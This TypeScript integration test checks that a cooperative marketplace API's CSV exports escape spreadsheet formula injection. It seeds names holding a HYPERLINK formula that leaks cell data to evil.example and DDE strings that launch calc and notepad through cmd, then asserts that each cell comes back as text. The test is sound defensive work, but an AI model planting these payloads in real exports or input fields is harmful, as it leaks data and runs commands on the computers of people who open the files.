import type { INestApplicationContext } from '@nestjs/common';
import { addDays, vietnamDate } from '@ocop/common';
import { type RunningApi, startApi } from '../../support/api';
import { parseCsv } from '../../support/csv';
import { newCooperative, newKey, uniqueCode } from '../../support/factories';
import { connectAll, listEverywhere, sandboxControl, startMarketplaces } from '../../support/marketplaces';
import { eventually, startWorker } from '../../support/worker';
import { everywhereHolds, ordersOf, type Sandbox } from '../orders/support';

/**
 * Issue 13, finding 10: names a seller types went into the officers' CSVs as live formulas. A
 * producer and a product with hostile names sell through a sandbox marketplace; every CSV the API
 * writes is then read back cell by cell.
 */

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
/** A series' period, written ="2026-11" so Excel keeps it as text: the API's own value, never a user's. */
const PERIOD = /^="\d{4}-(\d{2}(-\d{2})?|W\d{2})"$/;

describe('finding 10: no CSV cell is a live formula', () => {
  let sandbox: Sandbox;
  let api: RunningApi;
  let worker: INestApplicationContext;
  let officer: string;
  let coop: Awaited<ReturnType<typeof newCooperative>>;
  const hostileName = `=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây") ${uniqueCode('')}`;
  const hostileDistrict = `+cmd|' /C calc'!A0 ${uniqueCode('')}`;
  const hostileProduct = `@SUM(1+1)*cmd|' /C notepad'!A0`;
  const today = vietnamDate(new Date());

  beforeAll(async () => {
    sandbox = await startMarketplaces();
    api = await startApi();
    worker = await startWorker({ ORDER_POLL_INTERVAL_MS: '2000' });
    officer = await newKey(api, 'officer');
    coop = await newCooperative(api, { name: hostileName, district: hostileDistrict });
    const shops = await connectAll(api, sandbox, coop, { webhooks: true });
    const code = uniqueCode('TN');
    const product = await api.call('POST', '/v1/products', {
      key: coop.key,
      body: {
        cooperativeId: coop.id,
        name: hostileProduct,
        category: 'tea',
        skus: [{ code, name: '-1+1 hộp', priceVnd: 100_000, weightGrams: 100, onHand: 100 }],
      },
    });
    expect(product.status).toBe(201);
    await listEverywhere(api, coop, product.body.id, shops);
    await everywhereHolds(sandbox, shops, code, 100, 30_000);
    // sold 40 days ago and not since: the last 30 days' growth is -100 %, a negative number
    await sandboxControl(sandbox.urls.sendo).placeOrder(shops.sendo.shopId, [{ sku: code, quantity: 2 }], {
      placedAt: `${addDays(today, -40)}T03:00:00Z`,
    });
    await eventually(async () => (await ordersOf(api, coop.key)).length === 1, 30_000);
    await eventually(async () => {
      const growth = await api.call('GET', '/v1/metrics/growth', { key: officer });
      return growth.body?.items?.some((i: { cooperativeId: string }) => i.cooperativeId === coop.id);
    }, 30_000);
  }, 120_000);

  afterAll(async () => {
    await worker?.close();
    await api?.close();
    await sandbox?.close();
  });

  const csv = async (path: string) => {
    const res = await api.call('GET', `${path}${path.includes('?') ? '&' : '?'}format=csv`, { key: officer });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    return parseCsv(res.text.replace(/^\uFEFF/, ''));
  };

  it("writes the producer's name and district as text in the producers-by-growth CSV", async () => {
    const table = await csv(`/v1/metrics/growth?limit=200`);
    const header = table[0]!;
    const row = table.find((r) => r[header.indexOf('Mã chủ thể')] === coop.id);
    expect(row).toBeDefined();
    expect(row![header.indexOf('Chủ thể OCOP')]).toBe(`'${hostileName}`);
    expect(row![header.indexOf('Huyện')]).toBe(`'${hostileDistrict}`);
  });

  it('writes the district as text in the province CSV', async () => {
    const table = await csv(`/v1/metrics/province`);
    const keys = table.map((r) => r[0]);
    expect(keys).toContain(`'${hostileDistrict}`);
    expect(keys).not.toContain(hostileDistrict);
  });

  it('keeps a negative growth a number', async () => {
    const table = await csv(`/v1/metrics/cooperatives/${coop.id}/growth`);
    const header = table[0]!;
    const current = table.find((r) => r[0] === 'Kỳ này')!;
    expect(current[header.indexOf('Tăng trưởng (%)')]).toBe('-100');
  });

  it('leaves no cell of any CSV starting like a formula, unless it is a plain number', async () => {
    const from = addDays(today, -60);
    const paths = [
      `/v1/metrics/growth?limit=200`,
      `/v1/metrics/province`,
      `/v1/metrics/province/sales?from=${from}&to=${today}`,
      `/v1/metrics/ocop-uplift`,
      `/v1/metrics/cooperatives/${coop.id}/sales?from=${from}&to=${today}`,
      `/v1/metrics/cooperatives/${coop.id}/growth`,
    ];
    const live: string[] = [];
    for (const path of paths) {
      for (const row of await csv(path)) {
        for (const cell of row) {
          if (FORMULA_START.test(cell) && !NUMBER.test(cell) && !PERIOD.test(cell))
            live.push(`${path}: ${cell}`);
        }
      }
    }
    expect(live).toEqual([]);
  });
});
